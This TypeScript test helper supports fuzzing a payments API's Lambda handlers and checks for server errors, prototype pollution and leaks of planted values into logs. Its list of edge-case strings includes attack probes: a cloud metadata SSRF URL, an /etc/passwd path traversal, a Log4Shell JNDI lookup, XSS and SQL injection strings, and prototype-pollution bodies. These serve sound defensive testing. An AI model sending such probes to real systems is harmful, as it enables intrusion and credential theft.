@@ -1,0 +1,398 @@
+/**
+ * Shared pieces of the input fuzzing suites (tests/integration/fuzz-*.test.ts): hostile values
+ * and request shapes, API Gateway v2 events, counters of DynamoDB writes and Conekta calls, and
+ * the checks every answer must pass.
+ */
+import { randomUUID } from 'node:crypto';
+import { type AttributeValue, DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
+import type { APIGatewayProxyEventV2 } from 'aws-lambda';
+import fc from 'fast-check';
+import { lambdaContext } from './lambda-http.js';
+
+/** Cases per endpoint: 2,000 in `npm test`, more with FUZZ_RUNS (`npm run test:fuzz`). */
+export const FUZZ_RUNS = Number(process.env.FUZZ_RUNS) || 2000;
+/** Jest timeout for a fuzz test: generous per case, so only a hang fails it. */
+export const fuzzTimeoutMs = (perCaseMs: number) => 30_000 + FUZZ_RUNS * perCaseMs;
+/** Shrinking is capped: a failure is reported quickly, with a counterexample still small. */
+export const fuzzParameters = {
+  numRuns: FUZZ_RUNS,
+  ...(process.env.FUZZ_SEED && { seed: Number(process.env.FUZZ_SEED) }),
+};
+
+// ---------------------------------------------------------------------------------------------
+// Values
+
+/** Sensitive values planted in requests: no log line may ever show them. */
+export const SENTINELS = {
+  email: 'sentinel.fuzz@example.com',
+  phone: '5598765432',
+  card: '4111 1111 1111 1111',
+  name: 'Zyxwvutsrq',
+};
+
+const edgeStrings = fc.constantFrom(
+  '',
+  ' ',
+  '\u0000',
+  '\ud800',
+  'a\udfffb',
+  '\ufeff{}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'polluted',
+  'toString',
+  'hasOwnProperty',
+  'key_live_fuzz',
+  'tok_test_visa_4242',
+  'tok_test_card_declined',
+  SENTINELS.card,
+  '4242424242424242',
+  SENTINELS.email,
+  SENTINELS.phone,
+  'NaN',
+  'Infinity',
+  '1e3',
+  '-1',
+  '0',
+  '0.001',
+  '1000.50',
+  '99999999999',
+  'conekta',
+  'create',
+  'charge',
+  'status',
+  'refund',
+  'cancel',
+  'http://169.254.169.254/latest/meta-data',
+  'http://127.0.0.1:1/n',
+  'https://user:pass@fuzz.invalid/n',
+  'javascript:alert(1)',
+  '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
+  '${jndi:ldap://fuzz.invalid/a}',
+  '<script>alert(1)</script>',
+  "' OR 1=1 --",
+  '{"secret":"key_embedded"}',
+);
+
+export const hostileString: fc.Arbitrary<string> = fc.oneof(
+  { arbitrary: fc.string({ maxLength: 30 }), weight: 3 },
+  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }), weight: 2 },
+  // Any code point, lone surrogates included.
+  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
+  { arbitrary: edgeStrings, weight: 4 },
+  { arbitrary: fc.integer({ min: 250, max: 20_000 }).map((n) => 'x'.repeat(n)), weight: 1 },
+);
+
+export const hostileKey: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(
+    '__proto__',
+    'constructor',
+    'prototype',
+    'polluted',
+    'toString',
+    'valueOf',
+    'number',
+    'card',
+  ),
+  fc.string({ maxLength: 12 }),
+  fc.string({ unit: 'binary', maxLength: 8 }),
+);
+
+const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
+  hostileString,
+  fc.integer(),
+  fc.double(), // NaN and the infinities become null in JSON
+  fc.constantFrom(0, -0, 1e21, 2 ** 53 + 1, -1, 0.1, 1e-7, 21474836.48, Number.MAX_VALUE),
+  fc.boolean(),
+  fc.constant(null),
+);
+
+/** Any JSON value, with hostile leaves and keys (`__proto__` as an own key included). */
+export const hostileJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
+  value: fc.oneof(
+    { depthSize: 'small', withCrossShrink: true },
+    hostileScalar,
+    fc.array(tie('value'), { maxLength: 4 }),
+    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
+  ),
+})).value;
+
+/** JSON text nested `depth` levels deep, as arrays or objects. */
+export const deepJson = (depth: number, kind: 'array' | 'object'): string =>
+  kind === 'array'
+    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
+    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
+
+/** Text-level changes JSON.stringify cannot make: duplicate keys, exponents, truncation, junk. */
+export const textMutation: fc.Arbitrary<(text: string) => string> = fc.oneof(
+  fc
+    .tuple(
+      fc.constantFrom('amount', 'secret', 'action', 'reference_id', '__proto__', 'constructor'),
+      hostileJson,
+    )
+    .map(
+      ([key, value]) =>
+        (text: string) =>
+          `{${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'},${text.slice(1)}`,
+    ),
+  fc
+    .tuple(
+      fc.constantFrom('amount', 'provider', 'email', 'reference_id', '__proto__', 'constructor'),
+      hostileJson,
+    )
+    .map(
+      ([key, value]) =>
+        (text: string) =>
+          `${text.slice(0, -1)},${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}}`,
+    ),
+  fc
+    .constantFrom('1e3', '1E400', '-0', '1000.001', '00010', '0x10', '1_000', '.5', 'NaN')
+    .map((raw) => (text: string) => text.replace(/"amount":[^,}]*/, `"amount":${raw}`)),
+  fc.nat({ max: 400 }).map((at) => (text: string) => text.slice(0, at % Math.max(text.length, 1))),
+  fc.constantFrom('\ufeff', ' ', '\n', '[', 'garbage').map((prefix) => (text: string) => `${prefix}${text}`),
+  fc.constantFrom(']', '}', ' x', '\u0000').map((suffix) => (text: string) => `${text}${suffix}`),
+  fc.tuple(fc.integer({ min: 100, max: 4000 }), fc.constantFrom('array' as const, 'object' as const)).map(
+    ([depth, kind]) =>
+      (text: string) =>
+        `${text.slice(0, -1)},"deep":${deepJson(depth, kind)}}`,
+  ),
+  fc.constantFrom(
+    (text: string) => `{"__proto__":{"polluted":"yes"},${text.slice(1)}`,
+    (text: string) => `{"constructor":{"prototype":{"polluted":"yes"}},${text.slice(1)}`,
+    (text: string) => `[${text}]`,
+  ),
+);
+
+/** Object-level changes: a field replaced, removed, or a hostile key added. */
+export const objectMutation = (fields: readonly string[]) =>
+  fc.oneof(
+    fc
+      .tuple(fc.constantFrom(...fields), hostileJson)
+      .map(([field, value]) => (body: Record<string, unknown>) => ({ ...body, [field]: value })),
+    fc.constantFrom(...fields).map((field) => (body: Record<string, unknown>) => {
+      const { [field]: _dropped, ...rest } = body;
+      return rest;
+    }),
+    fc.tuple(hostileKey, hostileJson).map(([key, value]) => (body: Record<string, unknown>) => {
+      const copy = { ...body };
+      Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
+      return copy;
+    }),
+  );
+
+export const contentTypes = fc.oneof(
+  { arbitrary: fc.constant('application/json'), weight: 8 },
+  {
+    arbitrary: fc.constantFrom(
+      undefined,
+      '',
+      'application/json; charset=utf-8',
+      'APPLICATION/JSON',
+      'application/vnd.api+json',
+      'application/json-patch+json',
+      'text/plain',
+      'text/json',
+      'application/x-www-form-urlencoded',
+      'multipart/form-data; boundary=x',
+      'application/octet-stream',
+      'application/jsonx',
+    ),
+    weight: 2,
+  },
+);
+
+// ---------------------------------------------------------------------------------------------
+// Events and answers
+
+export type RawRequest = {
+  contentType: string | undefined;
+  body: string | undefined;
+  isBase64Encoded: boolean;
+  headers?: Record<string, string>;
+};
+
+/** Short enough to read in a failure report: fast-check prints this instead of a 300 KiB body. */
+export function describable(request: RawRequest): RawRequest {
+  const summary = () => {
+    const body = request.body ?? '(no body)';
+    const shown = body.length > 240 ? `${body.slice(0, 240)}... (${body.length} chars)` : body;
+    return JSON.stringify({ ...request, body: shown });
+  };
+  return Object.defineProperty(request, fc.toStringMethod, { value: summary, enumerable: false });
+}
+
+export function httpEvent(path: string, request: RawRequest): APIGatewayProxyEventV2 {
+  const requestId = `fz${randomUUID().replaceAll('-', '').slice(0, 18)}=`;
+  return {
+    version: '2.0',
+    routeKey: `POST ${path}`,
+    rawPath: path,
+    rawQueryString: '',
+    headers: {
+      ...(request.contentType !== undefined && { 'content-type': request.contentType }),
+      ...request.headers,
+    },
+    ...(request.body !== undefined && { body: request.body }),
+    isBase64Encoded: request.isBase64Encoded,
+    requestContext: {
+      accountId: 'fuzz',
+      apiId: 'fuzz',
+      domainName: 'localhost',
+      domainPrefix: 'localhost',
+      http: { method: 'POST', path, protocol: 'HTTP/1.1', sourceIp: '127.0.0.1', userAgent: 'fuzz' },
+      requestId,
+      routeKey: `POST ${path}`,
+      stage: '$default',
+      time: new Date().toISOString(),
+      timeEpoch: Date.now(),
+    },
+  };
+}
+
+type Handler = (event: APIGatewayProxyEventV2, context: ReturnType<typeof lambdaContext>) => Promise<unknown>;
+
+export type Answer = { status: number; headers: Record<string, string>; json: unknown; requestId: string };
+
+/**
+ * Invokes the handler and checks what every answer must be: never a 5xx, JSON, the request id
+ * echoed, and for 4xx the error shape `{error: {code, message, details}}`. Returns the answer.
+ */
+export async function invoke(handler: Handler, path: string, request: RawRequest): Promise<Answer> {
+  const event = httpEvent(path, request);
+  const result = (await handler(event, lambdaContext())) as {
+    statusCode: number;
+    headers: Record<string, string>;
+    body: string;
+  };
+  const requestId = event.requestContext.requestId;
+  const fail = (why: string) => {
+    throw new Error(`${why}: ${result?.statusCode} ${String(result?.body).slice(0, 300)}`);
+  };
+  if (typeof result?.statusCode !== 'number' || result.statusCode >= 500) fail('5xx or no answer');
+  if (!/^application\/json/.test(result.headers?.['content-type'] ?? '')) fail('not JSON');
+  if (result.headers?.['X-Request-Id'] !== requestId) fail('X-Request-Id does not echo the request id');
+  const json = JSON.parse(result.body) as {
+    error?: { code?: unknown; message?: unknown; details?: unknown };
+  };
+  if (result.statusCode >= 400) {
+    const error = json.error;
+    if (typeof error?.code !== 'string' || typeof error.message !== 'string' || !Array.isArray(error.details))
+      fail('4xx without the error shape');
+  }
+  return { status: result.statusCode, headers: result.headers, json, requestId };
+}
+
+export const errorCode = (answer: Answer): string | undefined =>
+  (answer.json as { error?: { code?: string } }).error?.code;
+
+// ---------------------------------------------------------------------------------------------
+// Side effects
+
+const WRITES = /^(PutItem|UpdateItem|DeleteItem|TransactWriteItems|BatchWriteItem)Command$/;
+
+export type SideEffects = { writes: number; conektaCalls: number; reset(): void; restore(): void };
+
+/**
+ * Counts DynamoDB writes (every client, from the moment it is installed) and calls to
+ * `conektaUrl`. Install it before importing the handlers: the Conekta client keeps the fetch it
+ * found at import.
+ */
+export function countSideEffects(conektaUrl: string): SideEffects {
+  const proto = DynamoDBClient.prototype as unknown as { send: (...args: unknown[]) => unknown };
+  const realSend = proto.send;
+  const realFetch = globalThis.fetch;
+  const effects: SideEffects = {
+    writes: 0,
+    conektaCalls: 0,
+    reset() {
+      effects.writes = 0;
+      effects.conektaCalls = 0;
+    },
+    restore() {
+      proto.send = realSend;
+      globalThis.fetch = realFetch;
+    },
+  };
+  proto.send = function send(this: unknown, ...args: unknown[]) {
+    if (WRITES.test((args[0] as object)?.constructor?.name ?? '')) effects.writes += 1;
+    return realSend.apply(this, args);
+  };
+  globalThis.fetch = (input, init) => {
+    const url = input instanceof Request ? input.url : String(input);
+    if (url.startsWith(conektaUrl)) effects.conektaCalls += 1;
+    return realFetch(input, init);
+  };
+  return effects;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Global state
+
+/** The own property names of the built-in prototypes: pollution adds to them. */
+export function prototypeSnapshot(): string {
+  return JSON.stringify(
+    [Object.prototype, Array.prototype, Function.prototype, String.prototype, Number.prototype].map((p) =>
+      Object.getOwnPropertyNames(p).sort(),
+    ),
+  );
+}
+
+export function expectNoPollution(before: string): void {
+  expect(prototypeSnapshot()).toBe(before);
+  const probe = {} as Record<string, unknown>;
+  expect(probe.polluted).toBeUndefined();
+  expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
+}
+
+/** Collects unhandled rejections while installed. */
+export function watchUnhandledRejections(): { reasons: unknown[]; stop(): void } {
+  const reasons: unknown[] = [];
+  const listener = (reason: unknown) => reasons.push(reason);
+  process.on('unhandledRejection', listener);
+  return { reasons, stop: () => process.off('unhandledRejection', listener) };
+}
+
+/** No planted sensitive value, in any log line. */
+export function expectNoSentinels(lines: readonly string[], extra: readonly string[] = []): void {
+  const values = [...Object.values(SENTINELS), '4111111111111111', ...extra];
+  const leaks = lines
+    .filter((line) => values.some((value) => line.includes(value)))
+    .map((line) => line.slice(0, 600));
+  expect(leaks).toEqual([]);
+}
+
+/** Every metric line is EMF in namespace Pagos, with Stage first in every dimension set and no `service`. */
+export function expectEmfOnly(lines: readonly string[]): void {
+  expect(lines.length).toBeGreaterThan(0);
+  for (const line of lines) {
+    const [directive] = (
+      JSON.parse(line) as { _aws: { CloudWatchMetrics: { Namespace: string; Dimensions: string[][] }[] } }
+    )._aws.CloudWatchMetrics;
+    expect(directive?.Namespace).toBe('Pagos');
+    for (const set of directive?.Dimensions ?? []) {
+      expect(set[0]).toBe('Stage');
+      expect(set).not.toContain('service');
+    }
+  }
+}
+
+/** Every item's pk, all pages (a long run outgrows one 1 MB scan page). */
+export async function scanKeys(client: DynamoDBClient, table: string): Promise<string[]> {
+  const keys: string[] = [];
+  let start: Record<string, AttributeValue> | undefined;
+  do {
+    const page = await client.send(
+      new ScanCommand({
+        TableName: table,
+        ProjectionExpression: 'pk',
+        ConsistentRead: true,
+        ExclusiveStartKey: start,
+      }),
+    );
+    for (const item of page.Items ?? []) keys.push(item.pk?.S ?? '');
+    start = page.LastEvaluatedKey;
+  } while (start);
+  return keys;
+}
